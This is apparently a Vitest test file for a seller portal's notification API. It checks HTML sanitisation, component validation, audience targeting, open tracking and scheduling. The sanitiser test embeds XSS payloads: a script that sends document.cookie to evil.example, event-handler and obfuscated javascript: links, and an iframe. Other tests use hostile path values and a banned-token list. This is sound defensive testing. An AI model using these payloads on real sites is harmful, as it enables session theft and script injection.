import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { defaultContractsDir } from '../../server/openapi/contracts.ts';
import { RefResolver } from '../../server/openapi/resolve-refs.ts';
import { expectContract } from './contract.ts';
import { ACCOUNTS, sellerIdOf, tokenOf } from './documents-support.ts';
import { OPEN_TIMEOUT_MS, openTestApp, type TestApp } from './harness.ts';

let t: TestApp;
let admin: string;
let seller: string;
let colleague: string;
let newSeller: string;
let staff: string;
let andesId: number;
let australId: number;

/** A second user of Tienda Andes, with the demo password, to tell per-user flags apart. */
const COLLEAGUE = 'bodega@tiendaandes.cl';

beforeAll(async () => {
  t = await openTestApp();
  andesId = await sellerIdOf(t, ACCOUNTS.seller);
  australId = await sellerIdOf(t, ACCOUNTS.newSeller);
  await t.db.query(
    `insert into users (email, password_hash, first_name, last_name, role, seller_id, created_at)
     select $1, password_hash, 'Rodrigo', 'Paredes', 'seller', seller_id, created_at from users where email = $2`,
    [COLLEAGUE, ACCOUNTS.seller],
  );
  [admin, seller, colleague, newSeller, staff] = await Promise.all([
    tokenOf(t, ACCOUNTS.admin),
    tokenOf(t, ACCOUNTS.seller),
    tokenOf(t, COLLEAGUE),
    tokenOf(t, ACCOUNTS.newSeller),
    tokenOf(t, ACCOUNTS.customerService),
  ]);
}, OPEN_TIMEOUT_MS);
afterAll(async () => {
  await t?.close();
});

interface Notification {
  id: number;
  label: string;
  size: string;
  config: { content: string };
  opened: boolean;
}

const list = async (token: string) => {
  const response = await t.request({ method: 'GET', url: '/user-notification', token });
  expect(response.statusCode).toBe(200);
  expectContract(response, 'listNotifications');
  return (response.json() as { data: Notification[] }).data;
};
const open = (token: string, id: number | string) => t.request({ method: 'POST', url: `/user-notification/open/${id}`, token });
const create = (payload: Record<string, unknown>, token = admin) => t.request({ method: 'POST', url: '/user-notification', token, payload });
const created = async (payload: Record<string, unknown>) => {
  const response = await create(payload);
  expectContract(response, 'createNotification');
  expect(response.statusCode, response.body).toBe(201);
  return response.json() as { id: number; config: { content: string }; sellerIds: number[] | null; openedCount: number; withdrawnAt: string | null };
};
const notice = (overrides: Record<string, unknown> = {}) => ({
  label: 'Aviso de prueba',
  icon: 'megaphone',
  size: 's',
  config: { content: '<p>Hola</p>' },
  ...overrides,
});

describe('the seeded notifications', () => {
  it('reach every seller user, in Spanish, in the four shapes, newest first', async () => {
    const mine = await list(seller);
    expect(mine.map((item) => [item.label, item.size])).toEqual([
      ['Black Friday 2026', 'custom'],
      ['Nueva política de despachos para temporada alta', 'l'],
      ['Cyber Day 2026: inscribe tus productos', 'm'],
      ['Nuevo horario de retiro', 's'],
    ]);
    const [component, long, medium] = mine;
    expect(JSON.parse(component!.config.content)).toMatchObject({ typeChildrenComponent: 'campaignInvitation', props: { campaign: 'Black Friday 2026' } });
    expect(long!.config.content.length).toBeGreaterThanOrEqual(3000);
    expect(medium!.config.content).toContain('target="_blank" rel="noopener noreferrer"');
    // The modal's title is the label: the HTML does not open with a heading saying it again, and
    // it names statuses as sellers read them, never by their code.
    expect(long!.config.content.startsWith('<p>')).toBe(true);
    expect(medium!.config.content.startsWith('<p>')).toBe(true);
    expect(long!.config.content).toContain('(estado <em>Lista para despacho</em>)');
    expect(`${long!.config.content}${medium!.config.content}`).not.toMatch(/\b[a-z]+_[a-z_]+\b/);
    // The short one was opened by seller@demo.cl only.
    expect(mine.map((item) => item.opened)).toEqual([false, false, false, true]);
    expect((await list(colleague)).map((item) => item.opened)).toEqual([false, false, false, false]);
    expect((await list(newSeller)).map((item) => item.label)).toEqual(mine.map((item) => item.label));
  });

  it('address no one without a seller: admins and staff get an empty list', async () => {
    expect(await list(admin)).toEqual([]);
    expect(await list(staff)).toEqual([]);
  });
});

describe('HTML content', () => {
  it('comes back sanitised: no script, no event handler, no javascript: link, no style', async () => {
    const payload =
      '<p style="position:fixed" onclick="steal()">Estimado seller,</p>' +
      '<script>fetch("https://evil.example/?c=" + document.cookie)</script>' +
      '<img src="x" onerror="alert(document.domain)">' +
      '<a href="javascript:alert(1)">ver oferta</a>' +
      '<a href="JaVaScRiPt&#58;alert(2)">ver más</a>' +
      '<svg onload="alert(3)"><circle r="1"/></svg>' +
      '<iframe src="https://evil.example"></iframe>' +
      '<a href="https://ayuda.portalsellers.cl" target="_top">ayuda</a>';
    const notification = await created(notice({ label: 'XSS', config: { content: payload } }));
    const expected =
      '<p>Estimado seller,</p><img src="x" /><a>ver oferta</a><a>ver más</a>' +
      '<a href="https://ayuda.portalsellers.cl" target="_blank" rel="noopener noreferrer">ayuda</a>';
    expect(notification.config.content).toBe(expected);
    const shown = (await list(seller)).find((item) => item.id === notification.id);
    expect(shown?.config.content).toBe(expected);
    for (const banned of ['<script', 'onerror', 'onclick', 'onload', 'javascript:', 'style=', '<svg', '<iframe', 'evil.example']) {
      expect(shown?.config.content.toLowerCase()).not.toContain(banned.toLowerCase());
    }
    const [stored] = await t.db.query<{ content: string }>('select content from notifications where id = $1', [notification.id]);
    expect(stored!.content).toBe(expected);
  });

  it('refuses HTML with nothing left once sanitised, with 422 naming the field', async () => {
    const response = await create(notice({ config: { content: '<script>alert(1)</script><p onclick="x()">  </p>' } }));
    expect(response.statusCode).toBe(422);
    expectContract(response, 'createNotification');
    expect(response.json()).toMatchObject({ code: 'VALIDATION_FAILED', details: [{ field: 'body.config.content' }] });
  });
});

describe('component content', () => {
  it('keeps a component of the registry as compact JSON', async () => {
    const component = { typeChildrenComponent: 'learningGuideTopic', props: { module: 'finance' } };
    const notification = await created(notice({ size: 'custom', config: { content: JSON.stringify(component, null, 2) } }));
    expect(notification.config.content).toBe(JSON.stringify(component));
    const reputation = await created(notice({ size: 'custom', config: { content: '{"typeChildrenComponent":"reputationSummary"}' } }));
    expect(reputation.config.content).toBe('{"typeChildrenComponent":"reputationSummary"}');
  });

  it('refuses a name outside the registry or wrong props with 400 naming the field', async () => {
    const cases: [unknown, string][] = [
      [{ typeChildrenComponent: 'ScriptRunner', props: {} }, 'body.config.content.typeChildrenComponent'],
      [{ props: { module: 'finance' } }, 'body.config.content.typeChildrenComponent'],
      [{ typeChildrenComponent: 'learningGuideTopic', props: { module: 'casino' } }, 'body.config.content.props.module'],
      [{ typeChildrenComponent: 'campaignInvitation', props: { campaign: 'Cyber', path: '/campaigns' } }, 'body.config.content.props.deadline'],
      [
        { typeChildrenComponent: 'campaignInvitation', props: { campaign: 'Cyber', deadline: '2026-05-20', path: 'javascript:alert(1)' } },
        'body.config.content.props.path',
      ],
      [{ typeChildrenComponent: 'campaignInvitation', props: { campaign: 'Cyber', deadline: '2026-05-20', path: '//attacker' } }, 'body.config.content.props.path'],
      [{ typeChildrenComponent: 'reputationSummary', html: '<script>alert(1)</script>' }, 'body.config.content.html'],
    ];
    for (const [content, field] of cases) {
      const response = await create(notice({ config: { content: JSON.stringify(content) } }));
      expect(response.statusCode, field).toBe(400);
      expectContract(response, 'createNotification');
      expect(response.json().details.map((detail: { field: string }) => detail.field), field).toEqual([field]);
    }
  });

  it('declares the registry once: NotificationComponentName lists exactly the components NotificationComponentContent accepts', () => {
    const contract = new RefResolver().dereferenceFile(path.join(defaultContractsDir, 'documents.yaml')) as {
      components: { schemas: Record<string, { enum?: string[]; oneOf?: { properties: { typeChildrenComponent: { const: string } } }[] }> };
    };
    const { NotificationComponentName: names, NotificationComponentContent: content } = contract.components.schemas;
    expect(content!.oneOf!.map((branch) => branch.properties.typeChildrenComponent.const).sort()).toEqual([...names!.enum!].sort());
  });
});

describe('audience and opened flag', () => {
  it('shows a notification for listed sellers to their users only', async () => {
    const notification = await created(notice({ label: 'Solo Andes', sellerIds: [andesId] }));
    expect(notification.sellerIds).toEqual([andesId]);
    expect((await list(seller)).some((item) => item.id === notification.id)).toBe(true);
    expect((await list(colleague)).some((item) => item.id === notification.id)).toBe(true);
    expect((await list(newSeller)).some((item) => item.id === notification.id)).toBe(false);
  });

  it('marks it opened for the caller only, keeps the first opening, and answers 404 to anyone it is not for', async () => {
    const notification = await created(notice({ label: 'Para abrir', sellerIds: [andesId] }));
    const first = await open(seller, notification.id);
    expect(first.statusCode).toBe(204);
    expectContract(first, 'openNotification');
    const openedAt = t.clock.now();
    t.clock.advance(5_000);
    expect((await open(seller, notification.id)).statusCode).toBe(204);

    expect((await list(seller)).find((item) => item.id === notification.id)?.opened).toBe(true);
    expect((await list(colleague)).find((item) => item.id === notification.id)?.opened).toBe(false);
    const opens = await t.db.query<{ user_id: number; opened_at: Date }>('select user_id, opened_at from notification_opens where notification_id = $1', [
      notification.id,
    ]);
    expect(opens).toHaveLength(1);
    expect(new Date(opens[0]!.opened_at).toISOString()).toBe(openedAt.toISOString());

    for (const token of [newSeller, admin, staff]) {
      const refused = await open(token, notification.id);
      expect(refused.statusCode).toBe(404);
      expectContract(refused, 'openNotification');
    }
    expect((await open(seller, 987_654)).statusCode).toBe(404);
    const malformed = await open(seller, 'abc');
    expect(malformed.statusCode).toBe(400);
    expect(malformed.json().details[0].field).toBe('params.id');

    const all = await t.request({ method: 'GET', url: '/user-notification/all?pageSize=100', token: admin });
    expectContract(all, 'listAllNotifications');
    expect(all.json().data.find((item: { id: number }) => item.id === notification.id).openedCount).toBe(1);
  });

  it('shows it between its start and its end only', async () => {
    const now = t.clock.now().getTime();
    const notification = await created(
      notice({ label: 'Programado', startDate: new Date(now + 60_000).toISOString(), endDate: new Date(now + 120_000).toISOString() }),
    );
    const visible = async () => (await list(seller)).some((item) => item.id === notification.id);
    expect(await visible()).toBe(false);
    expect((await open(seller, notification.id)).statusCode).toBe(404);
    t.clock.advance(60_000);
    expect(await visible()).toBe(true);
    t.clock.advance(60_000);
    expect(await visible()).toBe(false);
  });

  it('withdraws it from every list at once, idempotently, keeping it for the admin list', async () => {
    const notification = await created(notice({ label: 'Retirar' }));
    expect((await list(newSeller)).some((item) => item.id === notification.id)).toBe(true);
    const withdrawn = await t.request({ method: 'DELETE', url: `/user-notification/${notification.id}`, token: admin });
    expect(withdrawn.statusCode).toBe(204);
    expectContract(withdrawn, 'withdrawNotification');
    const withdrawnAt = t.clock.now().toISOString();
    t.clock.advance(1_000);
    expect((await t.request({ method: 'DELETE', url: `/user-notification/${notification.id}`, token: admin })).statusCode).toBe(204);
    expect((await list(newSeller)).some((item) => item.id === notification.id)).toBe(false);
    expect((await open(newSeller, notification.id)).statusCode).toBe(404);

    const all = await t.request({ method: 'GET', url: '/user-notification/all?pageSize=100', token: admin });
    expect(all.json().data.find((item: { id: number }) => item.id === notification.id).withdrawnAt).toBe(withdrawnAt);
    const unknown = await t.request({ method: 'DELETE', url: '/user-notification/987654', token: admin });
    expect(unknown.statusCode).toBe(404);
    expectContract(unknown, 'withdrawNotification');
  });

  it('pages the admin list, newest first', async () => {
    const first = await t.request({ method: 'GET', url: '/user-notification/all?pageSize=2', token: admin });
    expectContract(first, 'listAllNotifications');
    const second = await t.request({ method: 'GET', url: '/user-notification/all?pageSize=2&page=2', token: admin });
    const [count] = await t.db.query<{ total: number }>('select count(*)::int as total from notifications');
    expect(first.json()).toMatchObject({ page: 1, pageSize: 2, total: count!.total });
    const ids = [...first.json().data, ...second.json().data].map((item: { id: number }) => item.id);
    const newest = await t.db.query<{ id: number }>('select id from notifications order by created_at desc, id desc limit 4');
    expect(ids).toEqual(newest.map((row) => row.id));
  });
});

describe('POST /user-notification validation', () => {
  it('refuses what breaks the schema with 400 naming the field', async () => {
    const cases: [Record<string, unknown>, string][] = [
      [notice({ label: undefined }), 'body.label'],
      [notice({ size: 'xl' }), 'body.size'],
      [notice({ icon: 'Mega Phone' }), 'body.icon'],
      [notice({ sellerIds: [] }), 'body.sellerIds'],
      [notice({ config: { content: '' } }), 'body.config.content'],
      [notice({ startDate: 'mañana' }), 'body.startDate'],
    ];
    for (const [payload, field] of cases) {
      const response = await create(payload);
      expect(response.statusCode, field).toBe(400);
      expectContract(response, 'createNotification');
      expect(response.json().details.map((detail: { field: string }) => detail.field), field).toEqual([field]);
    }
  });

  it('refuses an end not after the start and an unknown seller with 422 naming the field', async () => {
    const start = '2026-05-02T12:00:00.000Z';
    const cases: [Record<string, unknown>, string][] = [
      [notice({ startDate: start, endDate: start }), 'body.endDate'],
      [notice({ sellerIds: [australId, 987_654] }), 'body.sellerIds.1'],
    ];
    for (const [payload, field] of cases) {
      const response = await create(payload);
      expect(response.statusCode, field).toBe(422);
      expectContract(response, 'createNotification');
      expect(response.json()).toMatchObject({ code: 'VALIDATION_FAILED', details: [{ field }] });
    }
  });
});
